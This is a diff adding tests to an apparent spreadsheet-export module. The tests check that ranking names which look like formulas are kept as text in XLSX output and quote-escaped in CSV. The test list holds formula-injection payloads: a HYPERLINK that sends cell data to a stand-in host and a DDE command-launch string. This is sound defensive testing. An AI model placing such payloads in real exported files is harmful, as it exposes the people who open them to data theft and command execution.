@@ -88,3 +88,23 @@ def test_english_files_have_english_headings():
     data = bulletin.csv_bytes(ROWS, "street", "Wangchao Streets 2026-11", "en")
     lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert lines[1][:3] == ["Rank", "Street or town", "Score"]
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1)"]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(name):
+    sheet = load_workbook(io.BytesIO(bulletin.xlsx_bytes(
+        [unit("D09", name, 1, 50.0)], "department", name, "zh"))).active
+    for cell in (sheet["A1"], sheet["B3"]):
+        assert (cell.value, cell.data_type) == (name, "s")
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_name_that_looks_like_a_formula_is_quoted_in_the_csv(name):
+    data = bulletin.csv_bytes([unit("D09", name, 1, 50.0)], "department", name, "zh")
+    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert lines[0] == ["'" + name]
+    assert lines[2][:3] == ["1", "'" + name, "50.0"]
